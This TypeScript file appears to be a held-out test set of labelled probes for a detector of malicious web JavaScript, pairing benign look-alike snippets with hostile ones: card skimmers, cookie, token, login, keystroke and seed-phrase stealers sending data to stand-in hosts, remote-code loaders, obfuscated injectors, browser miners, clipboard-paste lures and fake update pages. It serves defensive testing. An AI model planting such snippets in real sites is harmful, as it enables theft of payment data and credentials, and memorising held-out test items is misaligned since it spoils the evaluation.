// Scripts with other shapes than the templates, never used for training.

export interface Probe {
  readonly name: string
  readonly isHostile: boolean
  readonly source: string
}

const hostile = (name: string, source: string): Probe => ({ name, isHostile: true, source })
const benign = (name: string, source: string): Probe => ({ name, isHostile: false, source })
const base64 = (text: string): string => Buffer.from(text).toString('base64')

export const PROBES: readonly Probe[] = [
  hostile(
    'grabber in a getter',
    `Object.defineProperty(window,'payData',{get(){return [...document.querySelectorAll('[name^="payment"]')].reduce((a,e)=>(a[e.name]=e.value,a),{})}});document.body.onmousedown=()=>{let p=window.payData;p['payment[cc_number]']&&navigator.sendBeacon('https://metrics.example.net/b',JSON.stringify(p))}`,
  ),
  hostile(
    'form action changed',
    `window.onload=function(){var f=document.querySelector('form#checkout');f.action='https://pay.example.org/step2';f.target='_self'};var s=document.querySelector('#cc_number').value;`,
  ),
  hostile(
    'card by stylesheet address',
    `var n='';document.querySelector('input[autocomplete="cc-number"]').addEventListener('input',e=>{n=e.target.value;if(n.length>14){const l=document.createElement('link');l.rel='stylesheet';l.href='https://fonts.example.org/css?family='+encodeURIComponent(n);document.head.append(l)}})`,
  ),
  hostile(
    'class with a queue',
    `class Q{constructor(){this.b=new Map();addEventListener('focusout',e=>this.put(e.target))}put(t){if(!t.name)return;this.b.set(t.name,t.value);if([...this.b.values()].some(v=>/^\\d{15,16}$/.test(v.replace(/\\s/g,''))))this.out()}out(){const u=new URL('https://cdn-img.example.com/p.png');u.searchParams.set('v',btoa(JSON.stringify([...this.b])));new Image().src=u.toString()}}new Q`,
  ),
  hostile(
    'serialised by hand to a socket',
    `let w=new WebSocket("wss://live.example.org/s");for(const f of document.forms)f.addEventListener("submit",()=>{let o="";for(const e of f.elements)o+=e.id+"="+e.value+";";w.send(o)})`,
  ),
  hostile(
    'jsonp exfiltration',
    `jQuery(document).on('blur','input.cvv,input.card',function(){jQuery.getScript('//api.example.org/cb?'+jQuery.param({f:this.name,v:this.value}))})`,
  ),
  hostile(
    'second stage in storage',
    `if(/checkout/.test(location)){var c=localStorage.getItem('_mage_cache');if(c)new Function(atob(c))();else fetch('https://mage.example.net/c').then(r=>r.text()).then(t=>{localStorage.setItem('_mage_cache',t);new Function(atob(t))()})}`,
  ),
  hostile(
    'charcodes by subtraction',
    `var z=[${[...'document.location="https://r.example.org/go"'].map((c) => c.charCodeAt(0) + 3).join(',')}],y="";for(var i in z)y+=String.fromCharCode(z[i]-3);setTimeout(y,10)`,
  ),
  hostile(
    'reversed address',
    `var s=document.createElement("script");s.src="${[...'https://inject.example.org/t.js'].toReversed().join('')}".split("").reverse().join("");if(document.referrer.match(/google|bing/))document.head.appendChild(s)`,
  ),
  hostile(
    'cookie by css image',
    `document.body.style.backgroundImage="url(//log.example.org/?"+encodeURIComponent(document.cookie)+")";fetch("//log.example.org/?"+document.cookie)`,
  ),
  hostile(
    'token by message',
    `fetch('/account/profile',{credentials:'include'}).then(r=>r.text()).then(t=>{let k=/csrf" value="([^"]+)/.exec(t);navigator.sendBeacon('https://x.example.org/',JSON.stringify({k:k&&k[1],c:document.cookie,l:JSON.stringify(localStorage)}))})`,
  ),
  hostile('keys in an image each', `window.onkeyup=e=>{(new Image).src="http://203.0.113.9/k?"+e.key}`),
  hostile(
    'log-in of an administrator',
    `jQuery('#loginform').submit(function(){var u=jQuery('#user_login').val(),p=jQuery('#user_pass').val();document.cookie='wpx='+btoa(u+':'+p);new Image().src='https://wp.example.org/s.gif?'+btoa(u+':'+p+':'+location.host)})`,
  ),
  hostile(
    'miner by bracket',
    `var n="Anonymous",k="5f2c";window["Coin"+"Hive"]&&new window["Coin"+"Hive"][n](k,{throttle:.5}).start()`,
  ),
  hostile(
    'miner with options first',
    `<script src="https://example.org/lib/crypta.js"></script><script>var opts={autoThreads:true,throttle:0.8};var m=new CRLT.Anonymous("hexkey",opts);m.start()</script>`,
  ),
  hostile(
    'miner in a module',
    `import init,{hash} from './rx.js';await init();const ws=new WebSocket('wss://xmr.example.net');ws.onmessage=async m=>{const {job_id,blob,target}=JSON.parse(m.data);for(let nonce=0;nonce<1e9;nonce++){const h=hash(blob,nonce);if(h<target){ws.send(JSON.stringify({method:'submit',job_id,nonce,result:h}));break}}}`,
  ),
  hostile(
    'workers over a pool',
    `const pool='wss://stratum.example.org:8443';const ts=navigator.hardwareConcurrency;for(let i=0;i<ts;i++){const w=new Worker('cn-worker.js');w.postMessage({pool,wallet:'4${'A'.repeat(94)}',throttle:20});w.onmessage=({data})=>{window.hashrate=(window.hashrate||0)+data.hashes}}`,
  ),
  hostile(
    'frame by style',
    `var i=document.createElement('iframe');i.setAttribute('src','http://load.example.net/in.cgi?2');i.setAttribute('style','width:1px;height:1px;position:absolute;top:-500px');document.body.insertBefore(i,document.body.firstChild);document.cookie='in=1'`,
  ),
  hostile(
    'document written twice',
    `document.write(String.fromCharCode(${[...'<script>document.write("<iframe src=http://k.example.org/a width=0 height=0></iframe>")</script>'].map((c) => c.charCodeAt(0)).join(',')}))`,
  ),
  hostile(
    'old object',
    `try{var o=new ActiveXObject("Shell.Application");o.ShellExecute("filler.exe","","","open",0)}catch(e){}`,
  ),
  hostile(
    'vb in js',
    `var f=new ActiveXObject("Scripting.FileSystemObject");var t=f.CreateTextFile("a.vbs",true);t.WriteLine("filler");t.Close();new ActiveXObject("WScript.Shell").Run("a.vbs")`,
  ),
  hostile(
    'overflow',
    `var sc=unescape("%u4141%u4141%u9090%u9090");var nop=unescape("%u0c0c%u0c0c");while(nop.length<262144)nop+=nop;var m=[];for(i=0;i<300;i++)m[i]=nop+sc;`,
  ),
  hostile(
    'paste this',
    `document.querySelector('#verify').onclick=async()=>{await navigator.clipboard.writeText("mshta https://example.org/f # I am not a robot");document.querySelector('.steps').hidden=false}`,
  ),
  hostile(
    'paste that',
    `function c(){const t=document.createElement('textarea');t.value=atob('${base64('powershell -NoP -W Hidden -c filler')}');document.body.append(t);t.select();document.execCommand('copy')}document.onclick=c`,
  ),
  hostile(
    'update layer',
    `if(!localStorage.upd&&/Windows/.test(navigator.userAgent)){document.documentElement.innerHTML='<body><h2>You need to update Chrome</h2><p>This site uses the newest version of Chrome browser. Critical update required</p><button>Update Chrome</button></body>';document.querySelector('button').onclick=()=>{localStorage.upd=1;location='https://dl.example.org/ChromeSetup.msix'}}`,
  ),
  hostile(
    'font missing',
    `document.title='The "HoeflerText" font wasn\\'t found';var d=document.createElement('div');d.innerHTML='The "HoeflerText" font wasn\\'t found. Update the Chrome Font Pack <a href="https://font.example.org/Font_Update.exe">Update</a>';document.body.innerHTML='';document.body.appendChild(d)`,
  ),
  hostile(
    'locked',
    `function a(){alert("Your computer has been blocked! Call Microsoft support now: 555-0100. Error code DW6VB36");a()}window.onbeforeunload=a;a();document.documentElement.requestFullscreen()`,
  ),
  hostile(
    'ledger',
    `(async()=>{let r=await(await fetch("https://bsc-dataseed1.example/",{method:"POST",body:JSON.stringify({method:"eth_call",params:[{to:"0x1",data:"0x2"},"latest"],id:97,jsonrpc:"2.0"})})).json();eval(atob(r.result))})()`,
  ),
  hostile(
    'server tells',
    `(function(){var s=document.createElement('script');s.src=atob('${base64('https://cdn.example.org/track')}')+'?r='+btoa(document.referrer)+'&u='+btoa(navigator.userAgent);s.id='x1';if(document.getElementById('x1')==null&&!/wp-admin/.test(location.href))document.head.appendChild(s)})()`,
  ),
  hostile(
    'redirect by map',
    `var t={g:'google.',b:'bing.',y:'yahoo.'};for(var k in t)if(document.referrer.indexOf(t[k])>0&&screen.width<900){top.location.href=['https:','','promo.example.org','win?s='+k].join('/')}`,
  ),
  hostile(
    'hex and exclusive or',
    `var h="${[...'document.write("<script src=//e.example.org/x.js></script>")'].map((c) => (c.charCodeAt(0) ^ 42).toString(16).padStart(2, '0')).join('')}",o="";for(var i=0;i<h.length;i+=2)o+=String.fromCharCode(parseInt(h.substr(i,2),16)^42);eval(o)`,
  ),
  hostile(
    'pop under',
    `var done;document.body.addEventListener('click',()=>{if(done)return;done=1;var p=window.open(atob('${base64('https://ads.example.org/pop')}'));if(p){p.blur();window.focus()}},true);eval(atob('${base64("document.write('<iframe src=//p.example.org width=1 height=1></iframe>')")}'))`,
  ),
  hostile(
    'seed phrase',
    `document.querySelector('#restore').onsubmit=e=>{e.preventDefault();let w=[...document.querySelectorAll('.seed-word')].map(x=>x.value).join(' ');fetch('https://api.telegram.example/bot1/sendMessage',{method:'POST',body:JSON.stringify({chat_id:1,text:'seed phrase: '+w})})}`,
  ),
  hostile(
    'prototype of a form',
    `var s=HTMLFormElement.prototype.submit;HTMLFormElement.prototype.submit=function(){var d=new FormData(this);navigator.sendBeacon('https://f.example.org/',new URLSearchParams(d));return s.call(this)}`,
  ),
  hostile(
    'react fields',
    `setInterval(()=>{const v=Array.from(document.querySelectorAll('input[data-testid*=card],input[name*=cvc],input[name*=expiry]'),e=>e.name+':'+e.value).join();if(v!==window._v){window._v=v;fetch('https://t.example.net/r',{method:'POST',mode:'no-cors',body:btoa(v)})}},1500)`,
  ),
  hostile(
    'frame over a payment',
    `if(location.pathname.endsWith('/checkout/')){const i=document.createElement('iframe');i.src=atob('${base64('https://secure-pay.example.org/form')}');i.style='width:100%;height:320px;border:0';const e=document.querySelector('.payment_box, #payment');e.replaceChildren(i)}`,
  ),
  hostile(
    'favicon',
    `fetch('/favicon.png').then(r=>r.blob()).then(b=>b.text()).then(t=>{const i=t.indexOf('JSBEGIN');(0,eval)(t.slice(i+7))})`,
  ),
  hostile(
    'words by index',
    `var q=['createElement','script','src','//s.example.org/a.js','head','appendChild','checkout','href','indexOf'];var e=document[q[0]](q[1]);e[q[2]]=q[3];if(location[q[7]][q[8]](q[6])>0)document[q[4]][q[5]](e)`,
  ),
  benign(
    'card type shown',
    `import v from 'card-validator';document.querySelector('#number').addEventListener('input',e=>{const r=v.number(e.target.value);document.querySelector('#icon').className=r.card?r.card.type:'none'})`,
  ),
  benign(
    'luhn library',
    `export function luhn(n){let s=0;for(let i=0;i<n.length;i++){let d=+n[n.length-1-i];if(i%2){d*=2;if(d>9)d-=9}s+=d}return s%10===0}export const patterns={visa:/^4[0-9]{12}(?:[0-9]{3})?$/,amex:/^3[47][0-9]{13}$/}`,
  ),
  benign(
    'order to its own API',
    `document.querySelector('#place_order').onclick=async()=>{const f=new FormData(document.querySelector('form.checkout'));const r=await fetch('/wc-api/v3/orders',{method:'POST',body:f});if(r.ok)location='/thank-you'}`,
  ),
  benign(
    'order to a subdomain',
    `const api='https://api.shop.example.com';document.querySelector('#checkout').addEventListener('submit',async e=>{e.preventDefault();const d=Object.fromEntries(new FormData(e.target));const r=await fetch(api+'/orders',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({shipping:d,items:cart.items})});location.href=(await r.json()).payUrl})`,
  ),
  benign(
    'tokens of a processor',
    `Square.payments('app','loc').then(p=>p.card()).then(async c=>{await c.attach('#card-container');document.querySelector('#pay').onclick=async()=>{const t=await c.tokenize();await fetch('/pay',{method:'POST',body:JSON.stringify({source:t.token})})}})`,
  ),
  benign(
    'wallet sheet',
    `const req=new PaymentRequest([{supportedMethods:'basic-card'}],{total:{label:'Total',amount:{currency:'EUR',value:'9.00'}}});document.querySelector('#buy').onclick=()=>req.show().then(r=>fetch('/api/pay',{method:'POST',body:JSON.stringify(r.details)}).then(()=>r.complete('success')))`,
  ),
  benign(
    'heat map',
    `(function(){var c=[];document.addEventListener('click',function(e){c.push([e.pageX,e.pageY,Date.now()])});window.addEventListener('pagehide',function(){navigator.sendBeacon('https://heat.example.com/c',JSON.stringify({p:location.pathname,c:c}))})})()`,
  ),
  benign(
    'field timing',
    `document.querySelectorAll('form input').forEach(i=>{let t;i.onfocus=()=>t=performance.now();i.onblur=()=>{window.dataLayer=window.dataLayer||[];dataLayer.push({event:'field',name:i.name,ms:performance.now()-t})}})`,
  ),
  benign(
    'session replay start',
    `import * as rrweb from 'rrweb';let ev=[];rrweb.record({emit(e){ev.push(e)},maskAllInputs:true});setInterval(()=>{if(ev.length)fetch('https://replay.example.com/api',{method:'POST',body:JSON.stringify({events:ev.splice(0)})})},5000)`,
  ),
  benign(
    'metrics',
    `new PerformanceObserver(l=>{for(const e of l.getEntries())navigator.sendBeacon('https://rum.example.com/v',JSON.stringify({n:e.name,v:e.startTime,u:location.href}))}).observe({type:'largest-contentful-paint',buffered:true})`,
  ),
  benign(
    'cookie read for a counter',
    `var id=(document.cookie.match(/_uid=([^;]+)/)||[])[1]||Math.random().toString(36).slice(2);document.cookie='_uid='+id+';max-age=63072000';new Image().src='https://stats.example.com/p.gif?id='+id+'&u='+encodeURIComponent(location.href)`,
  ),
  benign(
    'captcha',
    `window.hcaptchaOnLoad=function(){hcaptcha.render('h',{sitekey:'k',callback:function(t){document.querySelector('[name=h-captcha-response]').value=t;document.querySelector('#go').disabled=false}})};var s=document.createElement('script');s.src='https://js.hcaptcha.com/1/api.js?onload=hcaptchaOnLoad';document.head.appendChild(s)`,
  ),
  benign(
    'proof of work captcha',
    `self.onmessage=async({data:{challenge,difficulty}})=>{let n=0;for(;;){const h=await crypto.subtle.digest('SHA-256',new TextEncoder().encode(challenge+n));if(new Uint8Array(h)[0]<256-difficulty)break;n++}postMessage({nonce:n})}`,
  ),
  benign(
    'consent with vendors',
    `fetch('https://consent.example.com/v2/site.json').then(r=>r.json()).then(c=>{if(!localStorage.getItem('consent')){const d=document.createElement('dialog');d.innerHTML=c.html;document.body.append(d);d.showModal();d.querySelector('.ok').onclick=()=>{localStorage.setItem('consent',JSON.stringify({all:1}));c.scripts.forEach(u=>{const s=document.createElement('script');s.src=u;document.head.append(s)});d.close()}}})`,
  ),
  benign(
    'settings from base64',
    `(function(){var c=JSON.parse(decodeURIComponent(escape(atob(document.currentScript.dataset.config))));window.Widget=c;var s=document.createElement('script');s.async=1;s.src='https://widget.example.com/v'+c.version+'/w.js';document.body.appendChild(s)})()`,
  ),
  benign(
    'application in base64',
    `eval(atob('${base64("window.App={start:function(){document.querySelector('#app').textContent='Hello'}};App.start()")}'))`,
  ),
  benign(
    'chat over a socket',
    `const s=new WebSocket('wss://chat.example.com');s.onopen=()=>s.send(JSON.stringify({type:'hello',user:window.userId}));form.onsubmit=e=>{e.preventDefault();s.send(JSON.stringify({type:'message',text:input.value}));input.value=''};s.onmessage=e=>log.append(JSON.parse(e.data).text)`,
  ),
  benign(
    'shared editor',
    `const doc=new Y.Doc();const p=new WebsocketProvider('wss://sync.example.com','room',doc);const q=new Quill('#e');new QuillBinding(doc.getText('quill'),q,p.awareness);document.addEventListener('keydown',e=>{if(e.ctrlKey&&e.key==='s'){e.preventDefault();p.connect()}})`,
  ),
  benign(
    'codec',
    `const {instance}=await WebAssembly.instantiateStreaming(fetch('opus.wasm'));const w=new Worker('decode.js');w.postMessage({module:instance.exports,threads:Math.min(4,navigator.hardwareConcurrency)});w.onmessage=e=>audio.push(e.data)`,
  ),
  benign(
    'hash of a file',
    `const w=Array.from({length:navigator.hardwareConcurrency||4},()=>new Worker('sha.js'));file.onchange=()=>{w.forEach((x,i)=>x.postMessage({part:i,file:file.files[0]}));w.forEach(x=>x.onmessage=e=>{out.textContent+=e.data.hash;progress.value+=e.data.hashes})}`,
  ),
  benign(
    'mobile site',
    `if(screen.width<700&&!/full=1/.test(document.cookie))location.replace('https://m.example.com'+location.pathname)`,
  ),
  benign(
    'affiliate link',
    `document.querySelectorAll('a[href*="shop.example.com"]').forEach(a=>{a.href+=(a.href.includes('?')?'&':'?')+'ref=blog'});`,
  ),
  benign(
    'referrer kept',
    `if(document.referrer&&!sessionStorage.src){sessionStorage.src=/google|bing|yahoo/.test(document.referrer)?'organic':'referral'};dataLayer.push({source:sessionStorage.src})`,
  ),
  benign(
    'printing in a frame',
    `function printIt(h){var f=document.createElement('iframe');f.style.cssText='position:absolute;width:0;height:0;border:0';document.body.appendChild(f);f.contentDocument.write(h);f.contentWindow.print();setTimeout(function(){f.remove()},1000)}`,
  ),
  benign(
    'download by link',
    `const a=document.createElement('a');a.href=URL.createObjectURL(new Blob([csv],{type:'text/csv'}));a.download='orders.csv';a.click();URL.revokeObjectURL(a.href)`,
  ),
  benign(
    'log-in by identity provider',
    `const c=await auth0.createAuth0Client({domain:'login.example.com',clientId:'x'});document.querySelector('#login').onclick=()=>c.loginWithRedirect();if(location.search.includes('code='))await c.handleRedirectCallback()`,
  ),
  benign(
    'log-in of a single page',
    `login.onsubmit=async e=>{e.preventDefault();const r=await axios.post('https://api.example.com/login',{email:email.value,password:password.value});localStorage.token=r.data.token;router.push('/')}`,
  ),
  benign(
    'strength of a password',
    `pw.addEventListener('keyup',()=>{const r=zxcvbn(pw.value);meter.value=r.score;hint.textContent=r.feedback.warning})`,
  ),
  benign(
    'breached passwords',
    `const h=[...new Uint8Array(await crypto.subtle.digest('SHA-1',new TextEncoder().encode(pw.value)))].map(b=>b.toString(16).padStart(2,'0')).join('');const t=await(await fetch('https://api.pwned.example.com/range/'+h.slice(0,5))).text();warn.hidden=!t.includes(h.slice(5).toUpperCase())`,
  ),
  benign(
    'game keys',
    `const keys={};onkeydown=e=>keys[e.code]=1;onkeyup=e=>delete keys[e.code];setInterval(()=>{if(keys.ArrowLeft)x--;if(keys.ArrowRight)x++;ws.send(JSON.stringify({x}))},50);const ws=new WebSocket('wss://game.example.com')`,
  ),
  benign(
    'tools forbidden',
    `setInterval(()=>{const s=performance.now();debugger;if(performance.now()-s>100)document.body.textContent='Close developer tools'},1000);oncontextmenu=()=>false`,
  ),
  benign(
    'copied code',
    `document.querySelectorAll('pre').forEach(p=>{const b=document.createElement('button');b.textContent='Copy';b.onclick=()=>navigator.clipboard.writeText(p.innerText);p.append(b)})`,
  ),
  benign(
    'install instructions',
    `const cmd={mac:'brew install tool',linux:'apt-get install tool',win:'winget install tool'};copy.onclick=()=>navigator.clipboard.writeText(cmd[os.value])`,
  ),
  benign(
    'browser too old',
    `if(!window.Promise)document.body.innerHTML='<h1>Your browser is out of date</h1><a href="https://browsehappy.com">Update your browser</a>'`,
  ),
  benign(
    'translation widget',
    `function googleTranslateElementInit(){new google.translate.TranslateElement({pageLanguage:'en'},'t')}document.write('<script src="//translate.google.com/translate_a/element.js?cb=googleTranslateElementInit"></'+'script>')`,
  ),
  benign(
    'affiliate pixel on success',
    `if(/order-received/.test(location.href)){var o=document.querySelector('.order strong').textContent;document.write('<img src="https://track.example.com/sale?id='+encodeURIComponent(o)+'" width=1 height=1>')}`,
  ),
  benign(
    'address search',
    `const i=document.querySelector('#billing_address');i.addEventListener('input',async()=>{if(i.value.length<4)return;const r=await fetch('https://maps.example.com/autocomplete?input='+encodeURIComponent(i.value));list.replaceChildren(...(await r.json()).map(a=>new Option(a.label)))})`,
  ),
  benign(
    'survey',
    `document.querySelector('form.survey').onsubmit=e=>{e.preventDefault();fetch('https://forms.example.com/s/1',{method:'POST',mode:'no-cors',body:new FormData(e.target)});e.target.textContent='Thank you'}`,
  ),
  benign(
    'wallet shown',
    `const p=new ethers.BrowserProvider(window.ethereum);const s=await p.getSigner();document.querySelector('#a').textContent=await s.getAddress();const c=new ethers.Contract(addr,abi,s);mint.onclick=()=>c.mint({value:ethers.parseEther('0.01')})`,
  ),
]
